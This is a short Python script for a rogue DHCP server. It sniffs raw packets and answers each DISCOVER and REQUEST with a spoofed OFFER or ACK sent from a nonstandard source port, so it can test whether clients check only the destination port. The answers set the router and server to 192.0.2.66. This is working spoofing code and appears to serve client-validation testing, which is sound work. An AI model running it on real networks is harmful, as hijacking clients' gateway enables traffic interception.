#!/usr/bin/env python3
"""A rogue DHCP server that answers from a source port other than 67.

  rogue_dhcp.py IFACE SECONDS [--sport PORT]

Listens on a raw socket for BOOTREQUESTs (UDP to 67) and answers each at once
with a broadcast from 192.0.2.66:PORT (default 1234) to port 68: a DISCOVER
with an OFFER, any REQUEST with an ACK, both of 192.0.2.199 (server
identifier 192.0.2.66, the router 192.0.2.66). A client that checks only the
destination port takes it. Prints a line per answer; exits after SECONDS.
Stdlib only.
"""
import argparse
import socket
import struct
import time

from dhcp_frames import frame

ETH_P_IP = 0x0800


def answer(request: bytes, msg_type: int) -> bytes:
    """A BOOTREPLY for the request's xid and chaddr."""
    xid = request[4:8]
    chaddr = request[28:44]
    bootp = (struct.pack("!BBBB", 2, 1, 6, 0) + xid + b"\0" * 8 + socket.inet_aton("192.0.2.199") +
             b"\0" * 8 + chaddr + b"\0" * 192)
    options = bytes([0x63, 0x82, 0x53, 0x63, 53, 1, msg_type, 54, 4]) + socket.inet_aton("192.0.2.66")
    options += bytes([51, 4]) + struct.pack("!I", 600)
    options += bytes([1, 4]) + socket.inet_aton("255.255.255.0")
    options += bytes([3, 4]) + socket.inet_aton("192.0.2.66") + bytes([255])
    return bootp + options


def dhcp_type(bootp: bytes) -> int:
    """Option 53 of a BOOTP message, 0 without one."""
    i = 240
    while i + 1 < len(bootp) and bootp[i] != 255:
        if bootp[i] == 0:
            i += 1
            continue
        if bootp[i] == 53 and i + 2 < len(bootp):
            return bootp[i + 2]
        i += 2 + bootp[i + 1]
    return 0


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("seconds", type=float)
    ap.add_argument("--sport", type=int, default=1234)
    a = ap.parse_args()
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    s.bind((a.iface, ETH_P_IP))
    mac = s.getsockname()[4]
    deadline = time.monotonic() + a.seconds
    while (left := deadline - time.monotonic()) > 0:
        s.settimeout(left)
        try:
            pkt, addr = s.recvfrom(4096)
        except socket.timeout:
            break
        if addr[2] == socket.PACKET_OUTGOING or len(pkt) < 14 + 20 + 8 + 240:
            continue
        ihl = (pkt[14] & 15) * 4
        udp = 14 + ihl
        if pkt[23] != 17 or struct.unpack("!H", pkt[udp + 2:udp + 4])[0] != 67:
            continue
        bootp = pkt[udp + 8:]
        if bootp[0] != 1:
            continue
        kind = {1: 2, 3: 5}.get(dhcp_type(bootp))  # DISCOVER -> OFFER, REQUEST -> ACK
        if kind:
            s.send(frame(mac, answer(bootp, kind), a.sport))
            print("OFFER" if kind == 2 else "ACK", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
